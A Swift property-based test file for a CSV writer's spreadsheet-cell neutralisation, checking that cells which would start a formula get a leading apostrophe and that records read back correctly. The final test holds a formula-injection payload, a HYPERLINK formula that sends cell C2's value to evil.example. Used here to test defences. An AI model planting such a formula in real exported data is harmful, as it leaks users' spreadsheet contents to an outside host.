import Foundation
import KyoseiIntake
import PropertyBased
import Testing

/// Text cells of the files people open never begin a formula, and lose nothing: the one `'`
/// a spreadsheet hides is all that is added, and only where a formula would have started.
@Suite struct SpreadsheetCellPropertyTests {
    static let formulaStarts = ["=", "+", "-", "@", "\t", "\r"]
    /// Formula starts, the quote itself, delimiters, and text that is harmless anywhere.
    static let pieces = formulaStarts + ["'", ",", "\"", "\n", " ", "a", "0", "HYPERLINK(", "シルバ", "＝", "😀"]
    static let cell = Gen.int(in: 0...(pieces.count - 1)).map { SpreadsheetCellPropertyTests.pieces[$0] }.array(of: 0...6)
        .map { $0.joined() }

    /// By scalar, as a spreadsheet reads it: CR LF is one Character in Swift but begins with CR.
    static func beginsFormula(_ text: String) -> Bool {
        text.unicodeScalars.first.map { formulaStarts.contains(String($0)) } ?? false
    }

    @Test func noTextCellBeginsAFormulaAndOnlyTheQuoteIsAdded() async {
        await propertyCheck(count: 500, input: Self.cell) { text in
            let written = SpreadsheetCell.neutralised(text)
            #expect(!Self.beginsFormula(written))
            #expect(written == (Self.beginsFormula(text) ? "'" + text : text))
        }
    }

    @Test func aRecordOfTextCellsReadsBackAsTheNeutralisedCells() async {
        await propertyCheck(count: 300, input: Self.cell.array(of: 1...6)) { texts in
            let line = CSVWriter.record(cells: texts.map(SpreadsheetCell.text))
            let read = try records(CSVReader(text: line + "\r\n", fileName: "r.csv")).map(\.fields)
            #expect(read == [texts.map(SpreadsheetCell.neutralised)])
        }
    }

    /// The record is written byte by byte, its formula starts found by the first byte: it must be
    /// the plain record of the cells as `neutralised` reads them, by scalar.
    @Test func aRecordOfCellsIsTheRecordOfTheirValues() async {
        let cells = Self.cell.array(of: 1...5).map { texts in
            texts.enumerated().map { $0.offset % 3 == 2 ? SpreadsheetCell.computed($0.element) : .text($0.element) }
        }
        await propertyCheck(count: 300, input: cells) { cells in
            #expect(CSVWriter.record(cells: cells) == CSVWriter.record(cells.map(\.value)))
        }
    }

    @Test func figuresKyoseiComputedStayNumbers() async {
        await propertyCheck(count: 200, input: Gen.int(in: -1_000_000...1_000_000)) { figure in
            #expect(SpreadsheetCell.computed(String(figure)).value == String(figure))
        }
    }

    @Test func aHyperlinkMemberNumberOpensAsText() {
        let attack = #"=HYPERLINK("http://evil.example/?id="&C2,"click")"#
        #expect(CSVWriter.record(cells: [.text(attack), .text("12345678901"), .computed("-3")])
            == #""'=HYPERLINK(""http://evil.example/?id=""&C2,""click"")",12345678901,-3"#)
    }
}
